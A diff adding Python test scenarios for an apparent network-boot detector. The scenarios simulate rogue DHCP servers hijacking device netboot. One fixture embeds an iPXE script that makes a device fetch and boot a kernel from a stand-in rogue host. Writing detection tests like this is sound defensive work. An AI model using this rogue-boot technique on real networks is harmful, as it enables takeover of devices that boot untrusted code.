@@ -1,0 +1,82 @@
+"""BW30 that begins with DHCP or ends with HTTP or FTP."""
+
+from __future__ import annotations
+
+from bootwarden.scenarios.bw30_netboot_hijack import hijack
+from bootwarden.scenarios.model import Expect, Notice, scenario
+from bootwarden.scenarios.sites import BOOT_SERVER, DEVICE, DHCP_SERVER, HQ, IMAGE, ROGUE
+from bootwarden.traffic import dhcp, http, tftp
+from bootwarden.traffic.images import filler, ios
+from bootwarden.traffic.wire import Wire
+
+PXE = "PXEClient:Arch:00007:UNDI:003016"
+KERNEL = b"MZ\0\0".ljust(0x38, b"\0") + b"ARMd" + filler(4000, "kernel")
+SCRIPT = f"#!ipxe\nkernel http://{ROGUE}/vmlinuz\nboot\n".encode()
+
+
+@scenario(
+    "BW30",
+    "malicious",
+    raises_with_site=[
+        ("BW01", 0, ROGUE, DEVICE),
+        ("BW10", 10, ROGUE, DEVICE),
+        ("BW10", 10, ROGUE, DEVICE),
+        ("BW30", 11, ROGUE, DEVICE),
+    ],
+    site=HQ,
+    with_site=Expect(
+        (
+            Notice("Rogue_Boot_Options", DEVICE, ROGUE, "boot.ipxe"),
+            Notice("Unauthorized_Boot_Server", DEVICE, ROGUE),
+            hijack(DEVICE, "boot.ipxe"),
+        )
+    ),
+)
+def bw30_ipxe_by_http(wire: Wire) -> None:
+    """A rogue DHCP server names an iPXE script by URL; the device fetches it, and the kernel that it names."""
+    client = dhcp.Client(wire, DEVICE, vendor_class=PXE, broadcast=False)
+    client.lease(ROGUE, [(67, f"http://{ROGUE}/boot.ipxe")])
+    http.get(wire, DEVICE, ROGUE, "/boot.ipxe", SCRIPT, kind="text/plain", client_port=50001)
+    http.get(wire, DEVICE, ROGUE, "/vmlinuz", KERNEL, kind="application/octet-stream", client_port=50002)
+
+
+@scenario(
+    "BW30",
+    "malicious",
+    raises_with_site=[
+        ("BW01", 0, "10.0.6.67", DEVICE),
+        ("BW10", 0, ROGUE, DEVICE),
+        ("BW20", 0, ROGUE, DEVICE),
+        ("BW30", 4, ROGUE, DEVICE),
+    ],
+    site=HQ,
+    with_site=Expect(
+        (
+            Notice("Rogue_Boot_Options", DEVICE, ROGUE, "sw.bin"),
+            Notice("Unauthorized_Boot_Server", DEVICE, ROGUE, "sw.bin"),
+            Notice("Unapproved_Image", DEVICE, ROGUE, "sw.bin"),
+            hijack(DEVICE, "sw.bin"),
+        )
+    ),
+)
+def bw30_leased_by_unicast(wire: Wire) -> None:
+    """A rogue DHCP server answers the device by its new address, and names another rogue's image."""
+    client = dhcp.Client(wire, DEVICE, broadcast=False)
+    client.lease("10.0.6.67", [(66, ROGUE), (67, "sw.bin")])
+    tftp.read(wire, DEVICE, ROGUE, "sw.bin", ios("c2960-lanbasek9-mz.150-2.SE11.bin", "15.0(2)SE11"))
+
+
+@scenario(
+    "BW30",
+    "benign",
+    raises_with_site=[("BW01", 0, ROGUE, DEVICE)],
+    site=HQ,
+    with_site=Expect((Notice("Rogue_Boot_Options", DEVICE, ROGUE, "sw.bin"),)),
+)
+def bw30_lease_not_followed(wire: Wire) -> None:
+    """A rogue offers boot options; the device takes the declared server's lease, and its image."""
+    client = dhcp.Client(wire, DEVICE, broadcast=False)
+    client.ask(dhcp.DISCOVER)
+    client.reply(ROGUE, dhcp.OFFER, [(66, ROGUE), (67, "sw.bin")])
+    client.lease(DHCP_SERVER, [(66, BOOT_SERVER), (67, IMAGE)])
+    tftp.read(wire, DEVICE, BOOT_SERVER, IMAGE, ios())
